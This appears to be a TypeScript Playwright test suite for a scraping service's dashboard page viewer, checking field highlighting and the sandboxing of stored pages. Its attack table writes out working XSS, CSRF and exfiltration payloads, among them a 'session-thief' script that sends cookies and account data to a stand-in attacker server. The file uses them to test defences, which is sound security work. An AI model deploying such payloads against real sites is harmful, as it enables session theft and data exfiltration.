/** The page viewer: it marks the right elements, and stored pages that attack the dashboard achieve nothing. */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { chromium } from "playwright-core";
import { browserOrSkip } from "../browser.ts";
import { startSite } from "./browser-kit.ts";
import { DashboardWindow } from "./dashboard-kit.ts";
import { Service } from "./service-process.ts";

const folder = mkdtempSync(join(tmpdir(), "sluice-viewer-"));
after(() => rmSync(folder, { recursive: true, force: true }));

const scraper = (site: string, fields: readonly string[]): string => `
import { defineScraper, field } from "sluice-jobs";
import { z } from "zod";
export default defineScraper({
  name: "viewed",
  site: ${JSON.stringify(site)},
  input: z.object({ page: z.string() }),
  key: ({ page }) => page,
  async collect({ input, http, keep }) {
    keep.page("page", await http.get("/" + input.page));
  },
  extract: { from: "page", fields: {
    ${fields.join(",\n    ")}
  } },
});`;

/** Twenty fields in elements of many sorts, with other elements of the same text before and after each. */
const KINDS = ["td", "span", "p", "li", "h3", "dd", "b", "a", "div", "code"];
const NUMBERS = Array.from({ length: 20 }, (_, number) => number + 1);
const FIELDS_PAGE = `<!doctype html><title>Fields</title><body>
<table><tr>${NUMBERS.filter((n) => n % 10 === 1)
  .map((n) => `<td>value ${n}</td><td id="f${n}" class='x'>value ${n}</td><td>value ${n}</td>`)
  .join("")}</tr></table>
${NUMBERS.filter((n) => n % 10 !== 1)
  .map((n) => {
    const tag = KINDS[(n - 1) % 10]!;
    return `<${tag}>value ${n}</${tag}><${tag.toUpperCase()} ID=f${n} href="/else">value ${n}</${tag}><${tag}>value ${n}</${tag}>`;
  })
  .join("\n")}</body>`;

/** Each tries something that a stored page must not do. Elements with the class `bait` are clicked. */
const attacksAt = (evil: string, api: string): Readonly<Record<string, string>> => ({
  "inline-script": `<script>parent.document.title = "taken"; fetch("${evil}/1")</script>`,
  "script-from-elsewhere": `<script src="${evil}/2.js"></script><script type=module src="${evil}/2.mjs"></script>`,
  "event-handler": `<img src=x onerror="fetch('${evil}/3')"><body onload="fetch('${evil}/3b')">`,
  "svg-script": `<svg onload="fetch('${evil}/4')"><script>fetch("${evil}/4b")</script><use href="${evil}/4.svg#a"/></svg>`,
  "script-link": `<a class=bait href="javascript:fetch('${evil}/5')">read more</a>`,
  "form-to-the-api": `<form method=post action="${api}/cancel"><button class=bait>Continue</button></form>`,
  "form-by-button": `<form><button class=bait formmethod=post formaction="${evil}/7">Continue</button></form>`,
  "frame-of-the-dashboard": `<iframe src="/jobs"></iframe><iframe src="${evil}/8"></iframe>`,
  "frame-with-own-text": `<iframe srcdoc="<script>fetch('${evil}/9')</script><img src='${evil}/9.png'>"></iframe>`,
  "object-and-embed": `<object data="${evil}/10"></object><embed src="${evil}/10b"><applet code="${evil}/10c"></applet>`,
  "refresh-elsewhere": `<meta http-equiv="refresh" content="0; url=${evil}/11">`,
  "link-for-the-whole-window": `<a class=bait target=_top href="${evil}/12">next</a>`,
  "link-to-a-new-window": `<a class=bait target=_blank href="${evil}/13">next</a>`,
  "link-in-noscript": `<noscript><a class=bait href="${evil}/14">next</a></noscript>`,
  "base-elsewhere": `<base href="${evil}/"><img src="15.png"><a class=bait href="15">next</a>`,
  "early-connections": `<link rel=preconnect href="${evil}"><link rel=dns-prefetch href="${evil}"><link rel=prefetch href="${evil}/16"><link rel=stylesheet href="${evil}/16.css"><link rel=preload as=image href="${evil}/16.png">`,
  "style-that-tells": `<style>@import "${evil}/17.css"; @font-face { font-family: x; src: url(${evil}/17.woff) } body { background: url(${evil}/17.png); font-family: x } [data-sluice-fields^="1"] { background: url(${evil}/17-found) }</style>`,
  "marks-of-its-own": `<p data-sluice-fields="99 fake" data-sluice-chosen="" id="sluice-mark" tabindex=0>fake</p>`,
  "policy-of-its-own": `<meta http-equiv="Content-Security-Policy" content="style-src 'none'"><style>[data-sluice-fields] { outline: none !important; display: none }</style>`,
  "media-and-pings": `<video autoplay src="${evil}/20"></video><audio autoplay src="${evil}/20b"></audio><img srcset="${evil}/20c 2x"><picture><source srcset="${evil}/20d"></picture><input type=image src="${evil}/20e"><a class=bait ping="${evil}/20f" href="${evil}/20g" download>next</a>`,
  "session-thief": `<script>fetch("/v1/me", { credentials: "include" }).then((r) => r.text()).then((t) => fetch("${evil}/21?" + t)); new Image().src = "${evil}/21?" + document.cookie; parent.postMessage("21", "*"); navigator.serviceWorker.register("/21.js")</script>`,
  "login-form": `<form action="${evil}/22"><input name=key type=password autofocus><input type=submit class=bait value="Sign in again"></form>`,
});

/** What code inside the browser sees. */
interface Styles {
  getComputedStyle(element: unknown, part: string): { readonly content: string };
}

/** Counts connections, too: some attacks only want to be noticed. */
const startEvil = async () => {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.end();
  }).on("connection", () => heard.push("a connection"));
  server.listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
};

test("stored pages", async (t) => {
  const found = await browserOrSkip(t);
  if (!found) return;
  await using evil = await startEvil();
  const names = Object.keys(attacksAt("", ""));
  const answers: Record<string, string> = { "/fields": FIELDS_PAGE };
  await using site = await startSite(answers);
  await using service = new Service(join(folder, "project"));
  const fields = [
    'title: field.text("title")',
    ...NUMBERS.map((n) => `field${n}: field.text("#f${n}").optional()`),
  ];
  service.writeScraper("viewed", scraper(site.url, fields));
  const client = await service.serve("--workers", "1");
  const target = await client.createJob({ scraper: "viewed", seal: false, inputs: [{ page: "fields" }] });
  const attacks = attacksAt(evil.url, `${service.url}/v1/jobs/${target.job.id}`);
  for (const name of names)
    answers[`/${name}`] = `<!doctype html><title>${name}</title><h1>Title</h1>${attacks[name]}`;
  const { job } = await client.createJob({
    scraper: "viewed",
    inputs: ["fields", ...names].map((page) => ({ page })),
  });
  await service.until(job.id, ({ state }) => state === "done");
  const browser = await chromium.launch({ executablePath: found.path, args: ["--no-sandbox"] });
  t.after(() => browser.close());
  const context = await browser.newContext();
  context.setDefaultTimeout(60_000);
  const window = new DashboardWindow(context, await context.newPage(), service.url);
  const { page } = window;
  await window.signIn(service.key);
  const items = new Map((await client.listItems(job.id)).data.map(({ key, id }) => [key, id]));
  const pathOf = (key: string): string => `/jobs/${job.id}/items/${items.get(key)}`;
  const frame = page.locator("iframe").contentFrame();

  await t.test("a click on a field, or the Enter key, marks its element, for twenty fields", async () => {
    await window.open(pathOf("fields"));
    for (const number of NUMBERS) {
      await page
        .locator(".fields")
        .getByRole("link", { name: `field${number}`, exact: false })
        .first()
        .waitFor();
      const link = page.locator(`.fields a[href*="field=field${number}"]`).first();
      await (number % 2 === 0 ? link.click() : window.press(link));
      const mark = frame.locator("#sluice-mark");
      await frame
        .locator(`[data-sluice-chosen][data-sluice-fields="${number + 1} field${number}"]`)
        .waitFor();
      assert.equal(await mark.count(), 1);
      assert.equal(await mark.textContent(), `value ${number}`);
      // The one that was found, and not its neighbours with the same text.
      assert.equal(
        await mark.evaluate(
          (element: { nextElementSibling: { textContent: string } }) =>
            element.nextElementSibling.textContent,
        ),
        `value ${number}`,
      );
    }
  });

  await t.test("a click on an element, or the tab key, names its fields", async () => {
    await window.open(pathOf("fields"));
    const element = frame.locator('[data-sluice-fields="6 field5"]');
    await element.click();
    const told = await element.evaluate(
      (marked) => (globalThis as unknown as Styles).getComputedStyle(marked, "::after").content,
    );
    assert.match(told, /6 field5/);
    await page.keyboard.press("Tab");
    await frame.locator('[data-sluice-fields="7 field6"]:focus').waitFor();
    // The same numbers stand before the fields of the record.
    assert.match((await page.locator(".fields li").nth(5).textContent())!, /^6 ?field5/);
  });

  await t.test("source, headers and the record can be looked at", async () => {
    await window.open(`${pathOf("fields")}?as=source&field=field3`);
    await frame.locator("mark#sluice-mark").waitFor();
    assert.match((await frame.locator("pre").textContent())!, /<title>Fields<\/title>/);
    await window.press(page.getByRole("link", { name: "Headers" }));
    await page.getByLabel("Status and headers").getByText("content-type: text/html").waitFor();
    await window.assertAccessible();
  });

  for (const name of names)
    await t.test(`attack: ${name}`, async () => {
      const path = pathOf(name);
      await window.open(path);
      await frame.locator("h1").waitFor();
      for (const bait of await frame.locator(".bait").all())
        await bait.click({ timeout: 5000, force: true }).catch(() => undefined);
      // Whatever the attack started has had its turn when the page answers again.
      await page.evaluate("new Promise((resolve) => setTimeout(resolve, 300))");
      assert.equal(new URL(page.url()).pathname, path, "the window stays where it is");
      assert.equal(context.pages().length, 1, "no window was opened");
      assert.doesNotMatch(await page.title(), /taken/);
      await page.getByRole("heading", { level: 1, name }).waitFor();
      assert.deepEqual(evil.heard, [], "nothing was sent");
      assert.equal((await context.cookies()).length, 1);
      assert.notEqual((await client.getJob(target.job.id)).state, "cancelled");
      if (name === "marks-of-its-own") {
        assert.equal(await frame.locator("[data-sluice-chosen], #sluice-mark").count(), 0);
        assert.equal(await frame.locator("[data-sluice-fields]").count(), 1, "only the real one");
      }
    });

  await t.test("the attacks are real: outside the viewer they reach their server", async () => {
    const plain = await browser.newPage();
    for (const name of [
      "inline-script",
      "event-handler",
      "frame-with-own-text",
      "style-that-tells",
      "media-and-pings",
    ]) {
      const before = evil.heard.length;
      await plain.goto(`${site.url}/${name}`);
      while (evil.heard.length === before) await plain.evaluate("new Promise(requestAnimationFrame)");
    }
    await plain.close();
  });

  await t.test("by itself, the answer has no rights either, and needs the session", async () => {
    const url = `${service.url}/v1/jobs/${job.id}/items/${items.get("inline-script")}/captures/0/view`;
    const answer = await fetch(url, { headers: { authorization: `Bearer ${service.key}` } });
    assert.match(answer.headers.get("content-security-policy")!, /^sandbox; default-src 'none';/);
    assert.equal((await fetch(url)).status, 401);
    assert.equal((await fetch(url, { method: "POST" })).status, 405);
  });

  await t.test(
    "a change that comes with the cookie needs the dashboard's header and its origin",
    async () => {
      const [cookie] = await context.cookies();
      const headers = { cookie: `${cookie!.name}=${cookie!.value}` };
      const pause = async (more: Readonly<Record<string, string>>): Promise<number> => {
        const path = `${service.url}/v1/jobs/${target.job.id}/pause`;
        return (await fetch(path, { method: "POST", headers: { ...headers, ...more } })).status;
      };
      assert.equal(await pause({}), 403);
      assert.equal(await pause({ "x-sluice-session": "1", origin: "https://evil.example" }), 403);
      assert.equal(await pause({ "x-sluice-session": "1", origin: service.url }), 200);
      const forged = `${cookie!.value.slice(0, -4)}AAAA`;
      const me = await fetch(`${service.url}/v1/me`, { headers: { cookie: `${cookie!.name}=${forged}` } });
      assert.equal(me.status, 401);
    },
  );
});
